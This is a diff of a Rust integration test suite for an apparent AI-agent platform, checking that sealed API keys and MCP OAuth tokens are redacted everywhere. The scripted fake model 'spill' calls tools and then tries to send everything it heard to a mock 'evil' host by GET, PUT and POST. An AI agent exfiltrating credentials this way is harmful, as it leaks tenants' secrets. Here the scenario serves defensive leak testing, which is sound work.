@@ -4,7 +4,7 @@
 use reqwest::Method;
 use serde_json::{Value, json};
 
-use crate::world::{APIS, KEY, Provider, Reply, Turn, Upstream, World, outputs};
+use crate::world::{APIS, KEY, Mcp, Oauth, Provider, REVISIONS, Reply, Revision, Run, Turn, Upstream, World, outputs};
 
 /// Keys that the tenant has sealed: one for its model, and one for each tool.
 const MODEL: &str = "sk-tenant-model-0123456789";
@@ -40,8 +40,8 @@ async fn shop(world: &World, evil: &Upstream) -> Upstream {
     upstream
 }
 
-/// A model that reads what there is, and then sends on everything it was told, by every method.
-fn spill(evil: &Upstream, question: &Value) -> Turn {
+/// A model that makes these calls, and then sends on everything it was told, by every method.
+fn spill(evil: &Upstream, question: &Value, reading: &[(&str, Value)]) -> Turn {
     let http = |method: &str, more: Value| {
         let mut call = json!({ "method": method, "url": evil.url(&format!("/{method}")) });
         call.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
@@ -49,13 +49,8 @@ fn spill(evil: &Upstream, question: &Value) -> Turn {
     };
     let heard = outputs(question);
     match heard.len() {
-        0 => Turn::Call(
-            ["shop_bearer", "shop_header"]
-                .into_iter()
-                .flat_map(|tool| ["echo", "refused", "away"].map(|id| (tool.to_owned(), json!({ "id": id }))))
-                .collect(),
-        ),
-        6 => Turn::Call(vec![
+        0 => Turn::Call(reading.iter().map(|(tool, arguments)| ((*tool).to_owned(), arguments.clone())).collect()),
+        all if all == reading.len() => Turn::Call(vec![
             http("GET", json!({ "query": { "all": json!(heard).to_string() } })),
             http("PUT", json!({ "json": question })),
             http("POST", json!({ "json": question, "headers": { "X-All": heard[0].to_string() } })),
@@ -64,11 +59,11 @@ fn spill(evil: &Upstream, question: &Value) -> Turn {
     }
 }
 
-/// Everything that the API tells of the run and of what it is configured with.
-async fn told(world: &World, run: &crate::world::Run, name: &str) -> Vec<String> {
+/// Everything that the API tells of the run, and of what it is configured with besides.
+async fn told(world: &World, run: &Run, name: &str, besides: &[&str]) -> Vec<String> {
     let mut told = vec![format!("{:?}", run.events().await)];
     let approval = run.wait_for("awaiting_approval").await.data["payload"]["approvalId"].as_str().unwrap().to_owned();
-    for path in [
+    let usual = [
         run.path(""),
         run.path("/steps"),
         format!("/approvals/{approval}"),
@@ -80,12 +75,10 @@ async fn told(world: &World, run: &crate::world::Run, name: &str) -> Vec<String>
         "/llm/keys".to_owned(),
         "/llm/providers".to_owned(),
         "/tools?limit=200".to_owned(),
-        "/tools/http".to_owned(),
-        "/tools/shop.bearer".to_owned(),
-        "/tools/http/shop.header".to_owned(),
         "/usage".to_owned(),
         "/metrics".to_owned(),
-    ] {
+    ];
+    for path in usual.into_iter().chain(besides.iter().map(|path| (*path).to_owned())) {
         let answer = world.owner().get(&path).await;
         assert_eq!(answer.status, 200, "{path}: {}", answer.text());
         told.push(answer.text());
@@ -111,7 +104,11 @@ async fn secrets_are_told_to_nobody_whoever_says_them_back_and_whatever_a_model_
         // It refuses at first, and says the key back.
         own.script([Turn::Status(503, vec![])]);
         let outside = evil.clone();
-        own.answering(move |question| spill(&outside, question));
+        let reading: Vec<_> = ["shop_bearer", "shop_header"]
+            .into_iter()
+            .flat_map(|tool| ["echo", "refused", "away"].map(|id| (tool, json!({ "id": id }))))
+            .collect();
+        own.answering(move |question| spill(&outside, question, &reading));
         let run = world.operator().execute(json!({ "agent": name, "goal": "Tell me all" })).await;
         // Somebody even says yes.
         world.approver().approve(&run.hold().await).await;
@@ -120,17 +117,76 @@ async fn secrets_are_told_to_nobody_whoever_says_them_back_and_whatever_a_model_
         assert_eq!(shop.requests_to("/bearer/echo")[0].header("authorization"), Some(&*format!("Bearer {BEARER}")));
         assert_eq!(shop.requests_to("/header/echo")[0].header("x-api-key"), Some(HEADER));
 
-        let mut told = told(&world, &run, name).await;
-        assert!(told[0].contains("[the key]") && told[0].contains("[sealed key]"), "{name}: {}", told[0]);
-        let sent: Vec<_> = ["/GET", "/PUT", "/POST"].iter().flat_map(|path| evil.requests_to(path)).collect();
-        assert_eq!(sent.len(), 3, "{name}: all of it was sent");
-        assert!(sent.iter().skip(1).all(|sent| String::from_utf8_lossy(&sent.body).contains("[sealed key]")), "{name}");
-        told.extend(evil.requests().iter().map(|sent| format!("{sent:?}")));
-        told.extend(own.asked().iter().map(|asked| asked.body.to_string()));
-        for secret in SECRETS {
-            let leak = told.iter().find(|told| told.contains(secret));
-            assert!(leak.is_none(), "{name}: {secret} is in {}", leak.unwrap());
-        }
+        let besides = ["/tools/http", "/tools/shop.bearer", "/tools/http/shop.header"];
+        let told = told(&world, &run, name, &besides).await;
+        assert!(told[0].contains("[the key]"), "{name}: {}", told[0]);
+        no_secret_is_out(&SECRETS, told, &evil, &own, name);
+    }
+}
+
+/// The model was told and sent on all there is, and in none of that is a secret.
+fn no_secret_is_out(secrets: &[&str], mut told: Vec<String>, evil: &Upstream, model: &Provider, what: &str) {
+    assert!(told[0].contains("[sealed key]"), "{what}: {}", told[0]);
+    let sent: Vec<_> = ["/GET", "/PUT", "/POST"].iter().flat_map(|path| evil.requests_to(path)).collect();
+    assert_eq!(sent.len(), 3, "{what}: all of it was sent");
+    assert!(sent.iter().skip(1).all(|sent| String::from_utf8_lossy(&sent.body).contains("[sealed key]")), "{what}");
+    told.extend(evil.requests().iter().map(|sent| format!("{sent:?}")));
+    told.extend(model.asked().iter().map(|asked| asked.body.to_string()));
+    for secret in secrets {
+        let leak = told.iter().find(|told| told.contains(secret));
+        assert!(leak.is_none(), "{what}: {secret} is in {}", leak.unwrap());
+    }
+}
+
+/// A server that says back what it is shown: a sealed key, or the token of a connection.
+async fn notes(world: &World, revision: Revision, connected: bool) -> (Mcp, &'static str) {
+    let mut body = json!({ "effects": { "*": "pure" }, "tools": ["echo", "fail", "refuse"] });
+    let (server, secret) = if connected {
+        let oauth = Oauth::start().await;
+        let server = Mcp::guarded(revision, &oauth).await;
+        let operator = world.operator();
+        let connection = json!({ "url": server.url() });
+        operator.request(Method::PUT, "/integrations/ours").json(&connection).send().await.expect(201);
+        let back = json!({ "redirectUrl": "http://127.0.0.1:4711/callback" });
+        let begun = operator.post("/integrations/ours/oauth/authorize", &back).await.expect(200);
+        let consent = oauth.consent(begun["url"].as_str().unwrap());
+        operator.post("/integrations/ours/oauth/callback", &consent).await.expect(200);
+        body["connection"] = json!("ours");
+        (server, "access-1")
+    } else {
+        put(world, "/llm/keys/notes", json!({ "secret": HEADER })).await;
+        body["key"] = json!({ "name": "notes", "header": "X-Api-Key" });
+        (Mcp::start(revision).await, HEADER)
+    };
+    body["url"] = json!(server.url());
+    put(world, "/tools/mcp/notes", body).await;
+    server.says(&format!("you are {secret}, that is {secret}"));
+    (server, secret)
+}
+
+#[tokio::test]
+async fn what_an_mcp_server_is_shown_is_told_to_nobody_else() {
+    for (revision, connected) in REVISIONS.into_iter().flat_map(|revision| [(revision, false), (revision, true)]) {
+        let (evil, model) = (Upstream::start().await, Provider::start().await);
+        let world = World::with(|settings| settings.llm.providers = model.settings().collect()).await;
+        let (server, secret) = notes(&world, revision, connected).await;
+        put(&world, "/llm/configs/clerk", json!({ "provider": "fake-openai", "model": "m" })).await;
+        let agent = json!({ "instructions": "Read.", "config": "clerk", "tools": ["mcp:notes/*", "http.request"] });
+        put(&world, "/agents/clerk", agent).await;
+        let outside = evil.clone();
+        let reading =
+            ["mcp_notes_echo", "mcp_notes_fail", "mcp_notes_refuse"].map(|tool| (tool, json!({ "text": "x" })));
+        model.answering(move |question| spill(&outside, question, &reading));
+        let run = world.operator().execute(json!({ "agent": "clerk", "goal": "Tell me all" })).await;
+        world.approver().approve(&run.hold().await).await;
+        run.completes().await;
+        let header = if connected { "authorization" } else { "x-api-key" };
+        let shown = server.heard("tools/call");
+        assert!(shown.iter().all(|call| call.headers[header].to_str().unwrap().ends_with(secret)), "it is shown");
+        let told =
+            told(&world, &run, "clerk", &["/tools/mcp/notes", "/tools/mcp%3Anotes%2Fecho", "/integrations"]).await;
+        let what = format!("{revision:?}, connected: {connected}");
+        no_secret_is_out(&[secret, KEY, "refresh-1"], told, &evil, &model, &what);
     }
 }
 
